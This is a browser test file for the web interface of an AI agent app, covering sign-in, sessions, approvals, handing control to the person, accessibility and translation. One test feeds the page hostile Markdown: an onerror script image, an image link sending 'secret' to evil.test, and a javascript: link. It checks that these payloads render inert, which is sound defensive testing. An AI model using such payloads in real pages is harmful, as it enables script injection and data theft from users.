import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { openBrowser, whyNoBrowser } from './testing/browser.ts'
import { FakeServer, type FakeServerOptions } from './testing/fake-server.ts'
import { finishSample, playSample, usage } from './testing/sample-run.ts'

const why = whyNoBrowser()
if (why) process.stderr.write(`Browser tests of the page are skipped: ${why}.\n`)

const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')

/** Violations of WCAG 2.2 AA, each with the first element that has it. */
async function violations(page: Page): Promise<string[]> {
  await page.evaluate(axe)
  return page.evaluate(async () => {
    const { axe } = window as unknown as {
      axe: { run(options: object): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> }
    }
    const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']
    const found = await axe.run({ runOnly: { type: 'tag', values: tags } })
    return found.violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html.slice(0, 160)}`)
  })
}

describe.skipIf(why)('the page', () => {
  let desk: Awaited<ReturnType<typeof openBrowser>>
  let server: FakeServer
  const complaints: string[] = []

  beforeAll(async () => {
    desk = await openBrowser()
  })
  afterAll(() => desk?.end())
  afterEach(async () => {
    for (const page of desk.context.pages()) await page.close()
    await desk.context.clearCookies()
    await server.close()
    expect(complaints.splice(0)).toEqual([])
  })

  /** Opens a path; whatever the page complains of, and any request to elsewhere, fails the test. */
  async function open(path: string, options: FakeServerOptions = {}, context: BrowserContext = desk.context) {
    server ??= await new FakeServer(options).listen()
    const page = await context.newPage()
    const { host } = new URL(server.url)
    page.on('pageerror', (error) => complaints.push(error.message))
    page.on('console', (message) => {
      const text = message.text()
      // Chromium's own lines about what failed: some tests are about just that, and here no screen answers.
      const expected =
        /^Failed to load resource|^WebSocket connection to .*\/vnc|^Failed when connecting/.test(text)
      if (message.type() === 'error' && !expected) complaints.push(text)
    })
    page.on('request', (request) => {
      const url = new URL(request.url())
      if (url.protocol.startsWith('http') && url.host !== host) complaints.push(`request to ${url.host}`)
    })
    await page.goto(server.url + path)
    return page
  }
  async function start(options: FakeServerOptions = {}) {
    server = await new FakeServer(options).listen()
    return server
  }
  const conversation = (page: Page) => page.getByTestId('conversation')

  test('signs in, and says what is wrong with a wrong password', async () => {
    await start({ signedIn: false })
    const page = await open('')
    await page.getByLabel('Name').fill('ada')
    await page.getByLabel('Password').fill('wrong horse')
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.getByRole('alert').getByText('The name or the password is wrong.').waitFor()
    expect(await violations(page)).toEqual([])
    await page.getByLabel('Password').fill('right horse')
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.getByRole('heading', { name: /off your desk, Ada/ }).waitFor()
  })

  test('makes the first account with the token of the link', async () => {
    await start({ signedIn: false, setupNeeded: true })
    const page = await open('setup?token=abc')
    await page.getByLabel('Name').fill('ada')
    await page.getByLabel('Password', { exact: true }).fill('long enough')
    await page.getByLabel('Password again').fill('long enough')
    expect(await violations(page)).toEqual([])
    await page.getByRole('button', { name: 'Continue' }).click()
    await page.getByRole('heading', { name: /off your desk/ }).waitFor()
    expect(server.posted('auth/setup')).toEqual([{ token: 'abc', username: 'ada', password: 'long enough' }])
  })

  test('a starting task fills the composer; sending it opens the session and shows what the agent says', async () => {
    await start()
    const page = await open('')
    await page.getByTestId('start').first().click()
    const box = page.getByLabel('Message')
    expect(await box.inputValue()).toContain('heat pumps')
    expect(await violations(page)).toEqual([])
    await box.fill('Say hello')
    await page.getByRole('button', { name: 'Send', exact: true }).click()
    await page.waitForURL('**/s/s1')
    await conversation(page).getByText('Say hello').waitFor()
    const session = server.sessions.get('s1')!
    session.emit({ type: 'run.start', runId: 'r1' }, { type: 'status', status: 'planning' })
    session.live({ type: 'message.delta', id: 'm5', text: 'Hello **wor', offset: 0 })
    session.live({ type: 'message.delta', id: 'm5', text: 'ld**', offset: 11 })
    await conversation(page).locator('strong', { hasText: 'world' }).waitFor()
    session.emit({ type: 'message', id: 'm5', role: 'assistant', text: 'Hello **world**', final: true })
    await conversation(page).locator('[data-final] strong').waitFor()
    expect(await conversation(page).getByText('Hello world').count()).toBe(1)
  })

  test('in demo mode it says so plainly and offers the tasks of the script', async () => {
    await start({ demo: true })
    const page = await open('')
    await page.getByText('Demo: the model is scripted.').waitFor()
    await page.getByTestId('start').click()
    await page.waitForURL('**/s/s1')
    expect(server.posted('/messages')).toMatchObject([{ text: 'Write it.' }])
  })

  test('shows the rows of a run in the order of its events, and the changed plan with its reason', async () => {
    await start()
    playSample(server.addSession('s1', 'Tents'))
    const page = await open('s/s1')
    const changed = conversation(page).locator('[data-row=plan][data-cause=interrupt]')
    await changed.getByText('You want only the two lightest').waitFor()
    expect(await changed.locator('del').allTextContents()).toEqual([
      'Read the pages of all four tents',
      'Write the comparison',
    ])
    await page.getByTestId('plan-strip').getByRole('button').first().click()
    const plan = page.getByTestId('plan')
    expect(
      await plan.locator('[data-step]').evaluateAll((all) => all.map((one) => one.dataset.step)),
    ).toEqual(['done', 'running', 'pending'])
    expect(await violations(page)).toEqual([])
  })

  test('after a reload, in a second tab and after dropped streams every event is there exactly once', async () => {
    await start()
    const session = server.addSession('s1', 'Count')
    session.emit({ type: 'run.start', runId: 'r1' }, { type: 'status', status: 'running' })
    const say = (n: number) =>
      session.emit({ type: 'message', id: `m${n}`, role: 'assistant', text: `line ${n}.` })
    for (let n = 1; n <= 5; n++) say(n)
    const page = await open('s/s1')
    const second = await open('s/s1')
    // Tall enough that the virtual list draws every row.
    for (const tab of [page, second]) await tab.setViewportSize({ width: 1200, height: 2_400 })
    await conversation(page).getByText('line 5.').waitFor()
    await conversation(second).getByText('line 5.').waitFor()
    for (let n = 6; n <= 12; n++) {
      if (n % 3 === 0) server.dropStreams()
      say(n)
    }
    const expected = Array.from({ length: 12 }, (_, i) => `line ${i + 1}.`)
    const lines = async (tab: Page) => {
      await conversation(tab).getByText('line 12.').waitFor()
      return conversation(tab).locator('[data-row=assistant] .prose').allInnerTexts()
    }
    expect(await lines(page)).toEqual(expected)
    expect(await lines(second)).toEqual(expected)
    await page.reload()
    expect(await lines(page)).toEqual(expected)
  })

  test('comes back by itself after a proxy answered 503 for a while, and keeps the half-written message', async () => {
    await start()
    const session = server.addSession('s1', 'Proxy')
    session.emit({ type: 'message', id: 'm1', role: 'user', text: 'first' })
    const page = await open('s/s1')
    await page.getByTestId('connection').and(page.locator('[data-state=live]')).waitFor()
    await page.getByLabel('Message').fill('half a sen')
    server.down = 503
    server.dropStreams()
    await page.getByTestId('reconnecting').waitFor()
    server.down = undefined
    session.emit({ type: 'message', id: 'm2', role: 'assistant', text: 'said meanwhile' })
    await conversation(page).getByText('said meanwhile').waitFor()
    await page.getByTestId('reconnecting').waitFor({ state: 'detached' })
    expect(await page.getByLabel('Message').inputValue()).toBe('half a sen')
  })

  test('a sign-in that ran out is renewed on top of the page', async () => {
    await start()
    server.addSession('s1', 'Expired')
    const page = await open('s/s1')
    await page.getByLabel('Message').fill('keep me')
    server.options.signedIn = false
    server.down = 401
    server.dropStreams()
    await page.waitForTimeout(0)
    server.down = undefined
    server.routes['POST sessions/:id/messages'] = () => ({
      status: 401,
      body: { error: { code: 'NOT_SIGNED_IN', message: 'You are not signed in.' } },
    })
    await page.getByRole('button', { name: 'Send', exact: true }).click()
    await page.getByRole('dialog', { name: 'Please sign in again' }).waitFor()
    expect(await page.getByLabel('Message').inputValue()).toBe('keep me')
  })

  test('Enter that chooses a word of an input method is not sent; the next Enter sends once', async () => {
    await start()
    server.addSession('s1', 'IME')
    const page = await open('s/s1')
    const box = page.getByLabel('Message')
    await box.focus()
    const keyboard = await page.context().newCDPSession(page)
    await keyboard.send('Input.imeSetComposition', { text: 'nihao', selectionStart: 5, selectionEnd: 5 })
    await keyboard.send('Input.dispatchKeyEvent', {
      type: 'keyDown',
      key: 'Enter',
      windowsVirtualKeyCode: 229,
    })
    await keyboard.send('Input.insertText', { text: '你好' })
    expect(server.posted('/messages')).toEqual([])
    await page.keyboard.press('Enter')
    await conversation(page).getByText('你好').waitFor()
    expect(server.posted('/messages')).toHaveLength(1)
  })

  test('while a run is on Enter steers, the queue button queues, and Stop stops', async () => {
    await start()
    playSample(server.addSession('s1', 'Steer'))
    const page = await open('s/s1')
    const box = page.getByLabel('Message')
    await box.fill('in blue')
    await box.press('Enter')
    await conversation(page).getByText('in blue').waitFor()
    await box.fill('then in red')
    await page.getByRole('button', { name: /^Queue/ }).click()
    await conversation(page).getByText('Waits for the end of the run').waitFor()
    const [steered, queued] = server.posted('/messages')
    expect(steered?.mode).toBeUndefined()
    expect(queued?.mode).toBe('queue')
    await page.getByRole('button', { name: 'Stop', exact: true }).click()
    await expect.poll(() => server.posted('/stop').length).toBe(1)
  })

  test('a file is attached by the picker and by paste, and its id goes with the message', async () => {
    await start()
    server.addSession('s1', 'Files')
    const page = await open('s/s1')
    await page
      .getByTestId('picker')
      .setInputFiles({ name: 'a.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b') })
    await page.locator('[data-attachment=there]').waitFor()
    await page.getByLabel('Message').evaluate((box) => {
      const data = new DataTransfer()
      data.items.add(new File(['x'], 'pasted.png', { type: 'image/png' }))
      box.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }))
    })
    await expect.poll(() => page.locator('[data-attachment=there]').count()).toBe(2)
    await page.getByRole('button', { name: 'Send', exact: true }).click()
    await expect.poll(() => server.posted('/messages')).toMatchObject([{ attachments: ['f1', 'f1'] }])
  })

  test('an approval is given by its shortcut on Linux and refused with words', async () => {
    await start()
    const session = server.addSession('s1', 'Approve')
    const ask = (askId: string) =>
      session.emit({
        type: 'ask.start',
        askId,
        kind: 'approval',
        text: 'Press “Book now”?',
        call: { name: 'browser_click', args: { target: '14' }, risk: 'activate', url: 'http://table.test/' },
      })
    session.emit({ type: 'run.start', runId: 'r1' }, { type: 'status', status: 'waiting' })
    ask('a1')
    const page = await open('s/s1')
    await page.getByTestId('prompt').waitFor()
    expect(await violations(page)).toEqual([])
    await page.keyboard.press('Control+Enter')
    await expect.poll(() => server.posted('/messages')).toMatchObject([{ approve: 'once', replyTo: 'a1' }])
    ask('a2')
    await page.getByLabel('What to do instead').fill('cancel it')
    await page.getByRole('button', { name: 'No', exact: true }).click()
    await expect.poll(() => server.posted('/messages')[1]).toMatchObject({ approve: 'no', text: 'cancel it' })
    await page.getByTestId('prompt').waitFor({ state: 'detached' })
  })

  test('a question is answered by one of its options', async () => {
    await start()
    const session = server.addSession('s1', 'Ask')
    session.emit(
      { type: 'run.start', runId: 'r1' },
      { type: 'ask.start', askId: 'a1', kind: 'question', text: 'Which?', options: ['Red', 'Blue'] },
      { type: 'status', status: 'waiting' },
    )
    const page = await open('s/s1')
    await page.getByTestId('prompt').getByRole('button', { name: 'Blue' }).click()
    await conversation(page).getByText('Answered').waitFor()
    expect(server.posted('/messages')).toMatchObject([{ text: 'Blue', replyTo: 'a1' }])
  })

  test('a used-up budget offers more, a report, or the end', async () => {
    await start()
    const session = server.addSession('s1', 'Budget')
    session.emit({ type: 'run.start', runId: 'r1' }, { type: 'status', status: 'paused', reason: 'budget' })
    const page = await open('s/s1')
    await page.getByRole('button', { name: 'Go on with half as much again' }).click()
    await expect.poll(() => server.posted('/resume')).toEqual([{ extend: true }])
  })

  test('the time line goes to a past call and back to live, and live work does not move it', async () => {
    await start()
    const session = server.addSession('s1', 'Timeline')
    playSample(session)
    const page = await open('s/s1')
    const line = page.getByTestId('timeline')
    for (let back = 0; back < 4; back++) await line.getByRole('button', { name: 'Previous call' }).click()
    await line.getByText('Clicking “Lightweight”').waitFor()
    await page.getByRole('button', { name: 'Before' }).click()
    await page.getByTestId('cursor').waitFor()
    finishSample(session)
    await conversation(page).getByText('The two lightest').last().waitFor()
    expect(await line.getByText('Clicking “Lightweight”').count()).toBe(1)
    await line.getByRole('button', { name: 'Back to live' }).click()
    await page.getByTestId('terminal').getByText('3 passed').waitFor()
  })

  test('taking control holds the agent, and handing back sends the note', async () => {
    await start()
    playSample(server.addSession('s1', 'Control'))
    const page = await open('s/s1')
    await page.getByTestId('take-control').click()
    await page.getByTestId('control-bar').waitFor()
    await page.getByLabel('Type text here').fill('你好，世界')
    await page.getByRole('button', { name: 'Type', exact: true }).click()
    await expect.poll(() => server.posted('/type')).toEqual([{ lease: 'lease-1', text: '你好，世界' }])
    await page.reload()
    await page.getByTestId('control-bar').waitFor()
    await page.getByTestId('return-control').click()
    await page.getByLabel(/What did you do/).fill('signed in')
    await page.getByRole('dialog').getByRole('button', { name: 'Return control' }).click()
    await conversation(page).getByText('“signed in”').waitFor()
    expect(server.posted('/control').at(-1)).toEqual({
      action: 'return',
      lease: 'lease-1',
      note: 'signed in',
    })
  })

  test('hostile Markdown is inert: no script, no picture from elsewhere, no odd link', async () => {
    await start()
    const session = server.addSession('s1', 'Hostile')
    session.emit({
      type: 'message',
      id: 'm1',
      role: 'assistant',
      text: '<img src=x onerror="document.title=1"> ![spy](https://evil.test/p.png?q=secret) [click](javascript:alert(1)) [ok](https://ok.test) end-of-it',
    })
    const page = await open('s/s1')
    await conversation(page).getByText('end-of-it').waitFor()
    expect(await conversation(page).locator('img').count()).toBe(0)
    const links = conversation(page).locator('a')
    expect(
      await links.evaluateAll((all) => all.map((a) => [a.getAttribute('href'), a.getAttribute('rel')])),
    ).toEqual([
      ['https://evil.test/p.png?q=secret', 'noopener noreferrer nofollow'],
      ['https://ok.test', 'noopener noreferrer nofollow'],
    ])
    expect(await page.title()).toBe('Deskhand')
  })

  test('sessions are renamed, pinned, found, and deleted with a way back', async () => {
    await start()
    server.addSession('s1', 'Alpha')
    server.addSession('s2', 'Beta')
    const page = await open('')
    const row = page.locator('[data-session=s1]')
    const menu = async (item: string) => {
      await row.hover()
      await row.getByRole('button', { name: /More about/ }).click()
      await page.getByRole('menuitem', { name: item, exact: true }).click()
    }
    await menu('Rename')
    await page.getByLabel('Rename').fill('Gamma')
    await page.getByLabel('Rename').press('Enter')
    await row.getByText('Gamma').waitFor()
    await menu('Pin')
    await expect.poll(() => server.posted('sessions/s1')).toEqual([{ title: 'Gamma' }, { pinned: true }])
    await menu('Delete')
    await row.waitFor({ state: 'detached' })
    await page.getByRole('button', { name: 'Undo' }).click()
    await row.waitFor()
    expect(server.sessions.has('s1')).toBe(true)
    await page.getByLabel('Search tasks').fill('bet')
    await row.waitFor({ state: 'detached' })
    await page.locator('[data-session=s2]').waitFor()
  })

  test('the model is set up and tested before it is saved', async () => {
    await start({ demo: true })
    const page = await open('settings/models')
    await page.getByLabel('Address (base URL)').first().fill('http://m.test/v1')
    await page.getByLabel('Key', { exact: true }).first().fill('sk-1')
    await page.getByLabel('Model name').first().fill('qwen')
    await page.getByRole('button', { name: 'Test' }).first().click()
    await page.getByTestId('model-test').getByText('It answered in 210 ms.').waitFor()
    expect(await violations(page)).toEqual([])
    await page.getByRole('button', { name: 'Save' }).first().click()
    await expect
      .poll(() => server.posted('settings'))
      .toEqual([{ settings: { API_BASE: 'http://m.test/v1', API_KEY: 'sk-1', MODEL_NAME: 'qwen' } }])
  })

  test('a proposal is kept in the person’s words, another one declined, and both say so afterwards', async () => {
    await start()
    const session = server.addSession('s1', 'Tables')
    const propose = (id: string) =>
      session.emit({ type: 'proposal', id, kind: 'note', name: `tables-${id}`, text: 'Prefer CSV.' })
    propose('p1')
    propose('p2')
    const page = await open('s/s1')
    const rows = page.locator('[data-row=proposal]')
    const [first, second] = [rows.nth(0), rows.nth(1)]
    await first.getByRole('button', { name: 'Change' }).click()
    await first.getByRole('textbox').fill('Prefer CSV with a header.')
    expect(await violations(page)).toEqual([])
    await first.getByRole('button', { name: 'Keep it' }).click()
    await second.getByRole('button', { name: 'No, thanks' }).click()
    await expect.poll(() => server.posted('proposals/p2')).toEqual([{ accept: false }])
    expect(server.posted('proposals/p1')).toEqual([{ accept: true, text: 'Prefer CSV with a header.' }])
    session.emit({ type: 'proposal.update', id: 'p1', state: 'kept', text: 'Prefer CSV with a header.' })
    session.emit({ type: 'proposal.update', id: 'p2', state: 'declined' })
    await first.getByText('Kept: tables-p1').click()
    await first.getByText('Prefer CSV with a header.').waitFor()
    await second.getByText('Not kept: tables-p2').waitFor()
    expect(await page.getByRole('button', { name: 'Keep it' }).count()).toBe(0)
  })

  test('a step that a message cut before it did anything shows its title once', async () => {
    await start()
    const session = server.addSession('s1', 'Once')
    const call = { callId: 'c1', stepId: 'a', name: 'shell_exec', args: {}, title: 'Running ls' }
    session.emit(
      { type: 'run.start', runId: 'r1' },
      {
        type: 'plan.update',
        rev: 1,
        goal: 'g',
        cause: 'new',
        steps: [{ id: 'a', title: 'Look around', status: 'pending' }],
      },
      { type: 'step.start', stepId: 'a' },
      { type: 'message', id: 'm1', role: 'assistant', text: 'One moment.' },
      { type: 'tool.start', ...call },
    )
    const page = await open('s/s1')
    await conversation(page).getByText('Running ls').waitFor()
    expect(await page.locator('[data-row=group]').allInnerTexts()).toHaveLength(1)
    expect(await page.getByText('continued').count()).toBe(0)
  })

  test('a trace is downloaded from the menu of the session', async () => {
    await start()
    server.addSession('s1', 'Traced')
    const page = await open('s/s1')
    await page.getByTestId('session-menu').click()
    const coming = page.waitForEvent('download')
    await page.getByRole('menuitem', { name: 'Download trace' }).click()
    expect((await coming).suggestedFilename()).toBe('trace-s1.jsonl')
  })

  test('settings show what was learned of a model, take prices, and open notes', async () => {
    await start()
    const page = await open('settings/models')
    await page.getByTestId('profile').getByText('images = false').waitFor()
    await page.getByRole('button', { name: 'Forget what was learned about m' }).click()
    await expect.poll(() => server.posted('models/profiles')).toHaveLength(1)
    await page.getByRole('button', { name: 'Add a price' }).click()
    const row = page.getByTestId('own-prices').getByRole('listitem')
    await row.getByLabel('Model').fill('m*')
    await row.getByLabel('Read', { exact: true }).fill('0,5')
    await row.getByLabel('Written').fill('2')
    expect(await violations(page)).toEqual([])
    await page
      .locator('section', { has: page.getByRole('heading', { name: 'Prices' }) })
      .getByRole('button', { name: 'Save' })
      .click()
    await expect
      .poll(() => server.posted('models/prices'))
      .toEqual([{ own: { 'm*': { input: 0.5, output: 2 } } }])
    await page.getByRole('link', { name: 'Knowledge' }).click()
    await page.getByRole('button', { name: 'Coffee' }).click()
    const text = page.getByRole('dialog').getByLabel('Text')
    await expect.poll(() => text.inputValue()).toBe('Two spoons.')
    await text.fill('Three spoons.')
    expect(await violations(page)).toEqual([])
    await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click()
    await expect.poll(() => server.posted('knowledge/coffee')).toEqual([{ text: 'Three spoons.' }])
  })

  test('switches to Chinese and back at once, with nothing left untranslated', async () => {
    await start()
    finishSample(playedSession())
    const page = await open('settings/general')
    await page.getByLabel('Language').selectOption('zh-CN')
    await page.getByRole('heading', { name: '通用' }).waitFor()
    expect(await page.evaluate(() => document.documentElement.lang)).toBe('zh-CN')
    await page.goto(`${server.url}s/s1`)
    await page.getByText('因你的消息而改变的计划').waitFor()
    // biome-ignore lint/performance/useDomNodeTextContent: only what can be read counts
    const words = await page.locator('body').innerText()
    expect(
      words
        .split(/\s+/)
        .filter((word) => /^[a-z]+\.[a-zA-Z.]+$/.test(word) && !/\.(md|py|json)\.?$/.test(word)),
    ).toEqual([])
    await page.goto(`${server.url}settings/general`)
    await page.getByLabel('语言').selectOption('en')
    await page.getByRole('heading', { name: 'General' }).waitFor()
  })

  test('a dark page is dark from its first paint', async () => {
    await start()
    const dark = await openBrowser({ dark: true })
    const page = await open('', {}, dark.context)
    expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark')
    await page.getByRole('heading', { level: 1 }).waitFor()
    expect(await violations(page)).toEqual([])
    await dark.end()
  })

  test('on a phone nothing is wider than the screen, and the parts are one touch apart', async () => {
    await start()
    playSample(server.addSession('s1', 'Phone'))
    const phone = await openBrowser({ width: 390, height: 844 })
    const page = await open('s/s1', {}, phone.context)
    await page.getByLabel('Message').waitFor()
    const wider = () =>
      page.evaluate(() => document.documentElement.scrollWidth > document.documentElement.clientWidth)
    expect(await wider()).toBe(false)
    expect(await violations(page)).toEqual([])
    for (const part of ['Computer', 'Files', 'Plan', 'Chat']) {
      await page
        .getByRole('navigation', { name: 'Parts of the task' })
        .getByText(part, { exact: true })
        .click()
      await page.getByTestId(`phone-${part.toLowerCase()}`).waitFor()
      expect(await wider()).toBe(false)
      expect(await violations(page)).toEqual([])
    }
    await phone.end()
  })

  test('works on a plain http name of the home network and below a sub-path', async () => {
    const lan = await openBrowser({ args: ['--host-resolver-rules=MAP lan.test 127.0.0.1'] })
    await start({ host: 'lan.test', basePath: '/agent/' })
    const page = await open('', {}, lan.context)
    await page.getByLabel('Message').fill('Over the LAN')
    await page.getByRole('button', { name: 'Send', exact: true }).click()
    await page.waitForURL('**/agent/s/s1')
    await conversation(page).getByText('Over the LAN').waitFor()
    expect(await page.evaluate(() => window.isSecureContext)).toBe(false)
    server.sessions
      .get('s1')
      ?.emit({ type: 'message', id: 'm9', role: 'assistant', text: '```\ncopy me\n```' })
    await conversation(page).getByRole('button', { name: 'Copy' }).first().click()
    await conversation(page).getByRole('button', { name: 'Copied' }).waitFor()
    await page.reload()
    await conversation(page).getByText('Over the LAN').waitFor()
    await lan.end()
  })

  test('ten thousand calls open with few elements on the page', async () => {
    await start()
    const session = server.addSession('s1', 'Long')
    session.emit({ type: 'run.start', runId: 'r1' })
    for (let n = 0; n < 3_000; n++) {
      session.emit(
        { type: 'tool.start', callId: `c${n}`, name: 'shell_exec', title: `Call ${n}`, args: {} },
        { type: 'tool.end', callId: `c${n}`, outcome: 'ok', ms: 5, view: { kind: 'text', text: 'x' } },
        { type: 'message', id: `m${n}`, role: 'assistant', text: `Line ${n}` },
      )
    }
    session.emit({ type: 'run.end', runId: 'r1', outcome: 'ok', usage }, { type: 'status', status: 'idle' })
    const page = await open('s/s1')
    await conversation(page).getByText('Line 2999').waitFor()
    expect(await page.locator('*').count()).toBeLessThan(1_500)
  })

  function playedSession() {
    const session = server.addSession('s1', 'Sample')
    playSample(session)
    return session
  }
})
